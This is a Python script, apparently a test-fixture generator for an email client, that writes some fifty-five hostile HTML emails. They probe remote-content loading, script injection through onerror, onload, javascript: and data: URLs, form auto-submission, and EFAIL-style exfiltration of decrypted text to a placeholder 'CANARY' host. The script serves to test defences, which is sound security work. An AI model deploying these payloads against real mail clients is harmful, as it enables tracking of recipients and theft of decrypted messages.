#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes the hostile-HTML corpus: one .eml per attack on the message view.

Every remote reference points at http://CANARY/<case>, which the ui test
replaces with its loopback canary server; every script tries to set the
document title to PWNED. Re-run after editing the cases below.
"""
import os

C = "http://CANARY"

CASES = {
    "img-src": f'<img src="{C}/img-src">',
    "img-src-uppercase-scheme": f'<img src="HTTP://{C[7:]}/img-upper">',
    "img-srcset": f'<img srcset="{C}/srcset 1x, {C}/srcset2 2x" src="cid:none">',
    "picture-source": f'<picture><source srcset="{C}/picture"><img src="cid:none"></picture>',
    "input-image": f'<input type="image" src="{C}/input-image">',
    "body-background": f'<body background="{C}/body-bg"><p>Bonjour</p></body>',
    "table-background": f'<table background="{C}/table-bg"><tr><td>x</td></tr></table>',
    "style-background": f'<div style="background:url({C}/style-bg);width:10px;height:10px">x</div>',
    "style-element-background": f'<style>p {{ background-image: url("{C}/style-el"); }}</style><p>x</p>',
    "css-import": f'<style>@import url("{C}/import.css");</style><p>x</p>',
    "css-import-string": f'<style>@import "{C}/import2.css";</style><p>x</p>',
    "link-stylesheet": f'<link rel="stylesheet" href="{C}/link.css"><p>x</p>',
    "link-prefetch": f'<link rel="prefetch" href="{C}/prefetch"><link rel="preload" as="image" href="{C}/preload">',
    "link-dns-prefetch": f'<link rel="dns-prefetch" href="{C}/dns"><link rel="preconnect" href="{C}/preconnect">',
    "link-icon": f'<link rel="icon" href="{C}/favicon.ico"><link rel="manifest" href="{C}/manifest">',
    "font-face": f'<style>@font-face {{ font-family: x; src: url("{C}/font.woff"); }} p {{ font-family: x; }}</style><p>texte</p>',
    "list-style-image": f'<ul style="list-style-image:url({C}/list)"><li>un</li></ul>',
    "cursor-url": f'<p style="cursor:url({C}/cursor), auto">x</p>',
    "border-image": f'<p style="border:10px solid;border-image:url({C}/border) 30 round">x</p>',
    "content-url": f'<style>p::before {{ content: url("{C}/content"); }}</style><p>x</p>',
    "image-set": f'<p style="background-image:image-set(url({C}/imageset) 1x)">x</p>',
    "svg-image": f'<svg width="10" height="10"><image href="{C}/svg-image" width="10" height="10"/></svg>',
    "svg-xlink": f'<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image xlink:href="{C}/svg-xlink" width="10" height="10"/></svg>',
    "svg-use": f'<svg><use href="{C}/sprite.svg#a"/></svg>',
    "svg-feimage": f'<svg><filter id="f"><feImage href="{C}/feimage"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
    "iframe": f'<iframe src="{C}/iframe"></iframe>',
    "iframe-srcdoc-script": '<iframe srcdoc="<script>parent.document.title=\'PWNED\';document.title=\'PWNED\'</script>"></iframe>',
    "object-data": f'<object data="{C}/object"></object>',
    "embed-src": f'<embed src="{C}/embed">',
    "video-poster": f'<video poster="{C}/poster" src="{C}/video"></video>',
    "video-source": f'<video><source src="{C}/video-source"><track src="{C}/track"></video>',
    "audio-src": f'<audio src="{C}/audio" autoplay></audio>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={C}/refresh"><p>attente</p>',
    "meta-refresh-late": f'<p>x</p><meta http-equiv="refresh" content="1; URL=\'{C}/refresh-late\'">',
    "base-href": f'<base href="{C}/base/"><img src="relative.png">',
    "script-inline": '<script>document.title="PWNED";</script><p>x</p>',
    "script-src": f'<script src="{C}/script.js"></script>',
    "script-img-onerror": '<img src="cid:missing" onerror="document.title=\'PWNED\'">',
    "script-svg-onload": '<svg onload="document.title=\'PWNED\'"></svg>',
    "script-body-onload": '<body onload="document.title=\'PWNED\'"><p>x</p></body>',
    "script-javascript-link": '<a id="l" href="javascript:document.title=\'PWNED\'">cliquez ici</a>',
    "script-data-iframe": '<iframe src="data:text/html,<script>top.document.title=\'PWNED\'</script>"></iframe>',
    "script-object-data-html": '<object data="data:text/html;base64,PHNjcmlwdD50b3AuZG9jdW1lbnQudGl0bGU9J1BXTkVEJzwvc2NyaXB0Pg=="></object>',
    "script-fetch": f'<script>fetch("{C}/fetch");document.title="PWNED";</script>',
    "script-websocket": f'<script>new WebSocket("ws://{C[7:]}/ws");document.title="PWNED";</script>',
    "script-event-autofocus": '<input autofocus onfocus="document.title=\'PWNED\'">',
    "script-details-ontoggle": '<details open ontoggle="document.title=\'PWNED\'"><summary>x</summary></details>',
    "form-action": f'<form id="f" action="{C}/form" method="post"><input name="q" value="secret"><input type="submit"></form>',
    "form-autosubmit": f'<form id="f" action="{C}/form2"></form><script>document.getElementById("f").submit()</script>',
    "xml-stylesheet-pi": f'<?xml-stylesheet href="{C}/pi.css"?><p>x</p>',
    "math-href": f'<math><mi href="{C}/math">x</mi></math>',
    "object-nested-img": f'<object data="cid:none"><img src="{C}/fallback"></object>',
    "ping-attribute": f'<a href="cid:x" ping="{C}/ping">x</a>',
    "protocol-relative": f'<img src="//{C[7:]}/protocol-relative">',
    "https-canary": f'<img src="https://{C[7:]}/https">',
}

EFAIL = {
    # EFAIL "direct exfiltration": an unclosed attribute in one part, the
    # secret in the next, the closing quote in a third. A client that joins
    # the parts into one document sends the secret to the attacker.
    "efail-direct-exfiltration": [
        f'<img src="{C}/efail?',
        'TEXTE SECRET DÉCHIFFRÉ',
        '">',
    ],
    "efail-style-exfiltration": [
        f'<div style="background:url({C}/efail-css?',
        'AUTRE SECRET',
        ')">x</div>',
    ],
}

def write_single(name, html):
    body = f"<html><head><title>Courriel</title></head><body><p>Cas : {name}</p>{html}</body></html>"
    with open(f"{name}.eml", "w", encoding="utf-8", newline="\r\n") as f:
        f.write(
            "From: Expéditeur Hostile <hostile@exemple.invalid>\n"
            "To: Marie Durand <marie.durand@ac-normandie.fr>\n"
            f"Subject: Corpus hostile : {name}\n"
            "Date: Mon, 02 Mar 2026 09:00:00 +0100\n"
            f"Message-ID: <{name}@corpus.cartable.invalid>\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/html; charset=utf-8\n"
            "Content-Transfer-Encoding: 8bit\n"
            "\n" + body + "\n")

def write_multipart(name, parts):
    boundary = "=-=cartable-efail-=-"
    with open(f"{name}.eml", "w", encoding="utf-8", newline="\r\n") as f:
        f.write(
            "From: Expéditeur Hostile <hostile@exemple.invalid>\n"
            "To: Marie Durand <marie.durand@ac-normandie.fr>\n"
            f"Subject: Corpus hostile : {name}\n"
            "Date: Mon, 02 Mar 2026 09:00:00 +0100\n"
            f"Message-ID: <{name}@corpus.cartable.invalid>\n"
            "MIME-Version: 1.0\n"
            f'Content-Type: multipart/mixed; boundary="{boundary}"\n\n')
        for part in parts:
            f.write(f"--{boundary}\nContent-Type: text/html; charset=utf-8\n"
                    "Content-Transfer-Encoding: 8bit\n\n" + part + "\n")
        f.write(f"--{boundary}--\n")

if __name__ == "__main__":
    os.chdir(os.path.dirname(os.path.abspath(__file__)))
    for old in os.listdir("."):
        if old.endswith(".eml"):
            os.remove(old)
    for name, html in CASES.items():
        write_single(name, html)
    for name, parts in EFAIL.items():
        write_multipart(name, parts)
    print(len(CASES) + len(EFAIL), "messages")
